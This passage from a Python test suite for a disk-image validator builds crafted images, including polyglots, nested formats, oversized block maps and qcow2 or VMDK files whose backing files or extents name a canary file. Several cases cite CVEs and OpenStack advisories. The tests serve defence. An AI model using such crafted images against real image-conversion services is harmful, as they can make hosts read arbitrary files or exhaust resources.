         bent("vdi", (0x1A8, b"\x55" * 32)), "differencing VDI"),
    Case("vdi-undo", "holds what an undo would take back", bent("vdi", (0x4C, le32(3))), "undo VDI"),
    Case("vdi-version-9", "is a VDI of a version that nobody knows", bent("vdi", (0x44, le32(9 << 16))), "version 9.0"),
    Case("vdi-map-beyond", "has its block map outside of the file", bent("vdi", (0x154, le32(2**32 - 512))),
         "truncated"),
    Case("vdi-blocks-4g", "has a block map of 16 GiB", bent("vdi", (0x180, le32(2**32 - 1))), "block map", OSSA_INFO),
    Case("vdi-block-size-1", "has a million blocks of one byte each", bent("vdi", (0x178, le32(1))), "blocks"),
    Case("vdi-size-huge", "claims a size close to 2^64", bent("vdi", (0x170, le64(2**64 - 512))), "claims a size",
         OSSA_SIZE),
    Case("vdi-block-beyond", "points to a block that was cut off",
         lambda scene: patched(image("vdi"), (512, le32(1000))), "truncated"),
    Case("vdi-cut", "lacks its second half, the block map being whole", cut("vdi", 0.5), "truncated"),
)  # fmt: skip

CONFUSION = (
    Case("polyglot-iso-qcow2", "is a CD to one reader and a disk with a backing file to another",
         lambda scene: patched(crafted.iso(), (0, backed("{canary}")(scene)[:4096])), "ambiguous"),
    Case("polyglot-iso-vmdk", "is a CD and a VMDK",
         lambda scene: patched(crafted.iso(), (0, image("vmdk-sparse")[:4096])), "ambiguous"),
    Case("polyglot-mbr-qcow2", "is a partitioned disk and a qcow2", bent("qcow2", (446, disk()[446:512])),
         "ambiguous", OSSA_RAW),
    Case("polyglot-vhd-vmdk", "is a fixed VHD by its end and a VMDK by its beginning",
         lambda scene: image("vmdk-sparse") + crafted.vhd_footer(size=len(image("vmdk-sparse"))), "ambiguous"),
    Case("polyglot-vhdx-gpt", "is a VHDX with partitions in front of its headers",
         bent("vhdx", (446, disk()[446:512])), "ambiguous"),
    Case("polyglot-vdi-iso", "is a VDI and a CD", lambda scene: patched(image("vdi"), (32768, b"\1CD001\1")),
         "ambiguous"),
    Case("polyglot-luks-vhd", "is an encrypted volume by its beginning and a fixed VHD by its end",
         lambda scene: raw_with(b"LUKS\xba\xbe\0\1")(scene) + crafted.vhd_footer(), "ambiguous"),
    Case("iso-hybrid-gpt", "is a CD with partitions, which is no disk of a machine",
         lambda scene: patched(crafted.iso(), (0, crafted.mbr()), (512, b"EFI PART")), "CDROM"),
    Case("raw-begins-as-qcow2", "is taken for a raw disk, and by the next reader for a qcow2",
         raw_with(b"QFI\xfb"), "qcow2 image of version 0", "CVE-2015-1851, OSSA-2015-011"),
    Case("raw-begins-as-vmdk", "is a raw disk with the signature of a VMDK", raw_with(b"KDMV"),
         "VMDK image of version 0",
         "CVE-2026-24708, OSSA-2026-002"),
    Case("raw-begins-as-parallels", "is of a format that only qemu would recognise",
         raw_with(b"WithoutFreeSpace" + le32(2) + bytes(12)), "Parallels image"),
    Case("raw-begins-as-bochs", "is of the format of Bochs, with tables that nobody here looks at",
         raw_with(b"Bochs Virtual HD Image".ljust(32, b"\0") + b"Redolog".ljust(16, b"\0") +
                  b"Growing".ljust(16, b"\0") + le32(0x20000) + le32(512)), "Bochs image"),
    Case("nested-qcow2", "is a qcow2 once more when it is converted, and that one names a file",
         nested(backed("{canary}")), "itself a qcow2 image", OSSA_RAW),
    Case("nested-vmdk-descriptor", "is a descriptor once it is converted",
         nested(descriptor('RW 64 FLAT "{canary}" 0')), "itself a VMDK descriptor", OSSA_RAW),
    Case("nested-qcow2-in-vmdk", "comes out of a VMDK as a qcow2 with a backing file",
         lambda scene: image("vmdk-stream", backed("{canary}")(scene)), "itself a qcow2 image", OSSA_RAW),
    Case("raw-begins-as-cloop", "is a script to some readers and a compressed disk to qemu",
         raw_with(b"#!/bin/sh\n#V2.0 Format\nmodprobe cloop file=$0 && mount -r -t iso9660 /dev/cloop $1\n"), "cloop"),
    Case("raw-begins-as-qed", "is of a format that was given up, with a backing file", raw_with(b"QED\0" + le32(65536)),
         "QED image"),
    Case("raw-ends-as-dmg", "is a disk image of macOS, whose tables at its end say which blocks are where",
         lambda scene: disk() + crafted.dmg_trailer(), "a disk image of macOS (DMG)"),
    Case("raw-begins-as-encrypted-dmg", "is an encrypted disk image of macOS", raw_with(b"encrcdsa" + be32(2)),
         "an encrypted image of macOS"),
    Case("raw-claimed", "has an owner who says that its qcow2 with a backing file is raw", backed("{canary}"), BACKING,
         OSSA_RAW, attributes={"FORMAT": "raw", "DRIVER": "raw"}, driver=None),
    Case("raw-claimed-qcow2", "has an owner who says raw of a qcow2, so that the next reader probes",
         lambda scene: image("qcow2"), HARMLESS, OSSA_RAW, attributes={"FORMAT": "raw", "DRIVER": "raw"}, driver=None),
    Case("raw-ends-as-vhd", "is a raw disk to most readers, with a footer that cannot be believed",
         lambda scene: disk() + patched(crafted.vhd_footer(), (0x40, b"\0\0\0\0")), "checksum"),
    Case("nested-vdi", "is a VDI once it is converted", nested(lambda scene: image("vdi")), "itself a VDI image",
         OSSA_RAW),
    Case("nested-vhdx", "is a VHDX once it is converted", nested(lambda scene: image("vhdx")), "itself a VHDX image",
         OSSA_RAW),
    Case("nested-vhd", "is a dynamic VHD once it is converted", nested(lambda scene: image("vhd-dynamic")),
         "itself a dynamic VHD", OSSA_RAW),
    Case("nested-vhd-fixed", "ends as a fixed VHD once it is converted, and is another disk to who reads that",
         nested(lambda scene: image("vhd-fixed")), "itself a fixed VHD"),
    Case("nested-parallels", "is of a format that only qemu recognises once it is converted",
         nested(lambda scene: b"WithoutFreeSpace" + le32(2) + bytes(MIB)),
         "itself an image of an abandoned format", OSSA_RAW),
    Case("nested-descriptor-odd", "is a descriptor with an odd byte once it is converted",
         nested(descriptor('RW 64 FLAT "{canary}" 0', change=lambda text: text.replace(b"Extent", b"\xe9\x7f"))),
         "itself a VMDK descriptor", OSSA_RAW),
    Case("nested-qcow2-in-vhd", "is the whole disk of a fixed VHD",
         lambda scene: backed("{canary}")(scene).ljust(MIB, b"\0") + crafted.vhd_footer(), BACKING),
    Case("nested-luks", "is encrypted once it is converted, as guests do it", nested(encrypted("luks", "")), HARMLESS),
    Case("luks-version-9", "is an encrypted volume of no known version", raw_with(b"LUKS\xba\xbe\0\x09"),
         "version 9"),
    Case("luks-payload-beyond", "is an encrypted volume whose payload is elsewhere",
         lambda scene: patched(encrypted("luks", "")(scene), (104, be32(2**32 - 1))), "truncated"),
    Case("gpt-entries-huge", "has a partition table of 2^32 entries of 2^32 bytes",
         lambda scene: patched(disk(), (512, b"EFI PART" + struct.pack("<IIIIQQQQ16sQII", 0x10000, 92, 0, 0, 1, 2**63,
                                        2**63, 2**63, b"", 2**63, 2**32 - 1, 2**32 - 1))), HARMLESS),
    Case("raw-of-one-byte", "is less than a sector", lambda scene: b"\0", "less than one sector"),
)  # fmt: skip

IMAGES = (*QCOW2, *VMDK, *MICROSOFT, *VDI, *CONFUSION)
